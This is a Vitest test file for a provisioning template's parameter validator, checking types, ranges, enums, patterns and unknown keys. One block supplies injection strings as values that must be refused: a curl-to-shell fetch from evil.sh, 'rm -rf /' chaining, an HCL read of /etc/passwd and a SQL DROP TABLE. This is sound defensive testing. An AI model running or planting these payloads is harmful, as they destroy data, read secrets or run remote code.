import { describe, expect, it } from "vitest";
import { templateDocumentFor } from "~/testing/templates";
import { parameterDefaults, parameterValuesSchema, type ParameterSpec } from "./template-parameters";

const parameters: ParameterSpec[] = [
  ...templateDocumentFor("box").spec.parameters,
  {
    name: "service_name",
    title: "Service",
    type: "string",
    pattern: "^[a-z][a-z0-9-]{2,30}$",
    patternHelp: "lowercase letters, digits, dashes",
    required: true,
  },
  { name: "replicas", title: "Replicas", type: "integer", minimum: 1, maximum: 5, default: 2, required: true },
  { name: "spot", title: "Spot", type: "boolean", default: false, required: true },
];
const schema = parameterValuesSchema(parameters);
const valid = { instance_type: "t3.small", disk_gb: 20, service_name: "billing-api", replicas: 2, spot: false };

/** The field and message of the first problem, as the API reports it next to the field. */
function refusal(values: Record<string, unknown>) {
  const result = schema.safeParse(values);
  if (result.success) return null;
  const issue = result.error.issues[0]!;
  return { field: issue.path.join(".") || (issue.code === "unrecognized_keys" ? issue.keys.join(",") : ""), message: issue.message };
}

describe("parameter values", () => {
  it("accepts valid values and fills defaults", () => {
    const parsed = schema.parse({ service_name: "billing-api" });
    expect(parsed).toEqual({ instance_type: "t3.small", disk_gb: 20, service_name: "billing-api", replicas: 2, spot: false });
    expect(parameterDefaults(parameters)).toEqual({ instance_type: "t3.small", disk_gb: 20, replicas: 2, spot: false });
  });

  it.each([
    ["a wrong type", { ...valid, disk_gb: "20" }, "disk_gb", "must be a number"],
    ["a fraction for an integer", { ...valid, replicas: 1.5 }, "replicas", "must be a whole number"],
    ["a number below the minimum", { ...valid, disk_gb: 5 }, "disk_gb", "at least 10 GB"],
    ["a number above the maximum", { ...valid, replicas: 50 }, "replicas", "at most 5"],
    ["a value outside the enum", { ...valid, instance_type: "p3.16xlarge" }, "instance_type", "must be one of: t3.micro, t3.small, m5.large"],
    ["a missing required value", { instance_type: "t3.small" }, "service_name", "must be text"],
    ["an oversized string", { ...valid, owner_note: "x".repeat(41) }, "owner_note", "at most 40 characters"],
    ["a pattern mismatch, explained", { ...valid, service_name: "Billing" }, "service_name", "lowercase letters, digits, dashes"],
    ["a boolean as text", { ...valid, spot: "true" }, "spot", "must be true or false"],
  ])("refuses %s, naming the field", (_, values, field, message) => {
    expect(refusal(values)).toEqual({ field, message });
  });

  it("refuses an unknown key, naming it", () => {
    expect(refusal({ ...valid, debug: true })).toEqual({ field: "debug", message: "unknown parameter: debug" });
  });

  it.each([
    ["shell command substitution", "$(curl evil.sh | sh)"],
    ["shell chaining", "box; rm -rf /"],
    ["backticks", "`id`"],
    ["HCL interpolation", '${file("/etc/passwd")}'],
    ["HCL template directive", "%{ for x in y }"],
    ["SQL quote breaking", "x'; DROP TABLE users; --"],
    ["SQL comment", "admin--"],
    ["a newline", "line1\nline2"],
    ["a path escape with backslash", "..\\..\\windows"],
  ])("refuses a value meant to inject (%s)", (_, value) => {
    const problem = refusal({ ...valid, owner_note: value });
    expect(problem?.field).toBe("owner_note");
    expect(problem?.message).toMatch(/may contain only letters|must not contain/);
  });

  it("accepts ordinary text with accents, spaces and punctuation people use", () => {
    expect(refusal({ ...valid, owner_note: "Équipe data: jobs@acme.io, v1.2" })).toBeNull();
  });
});
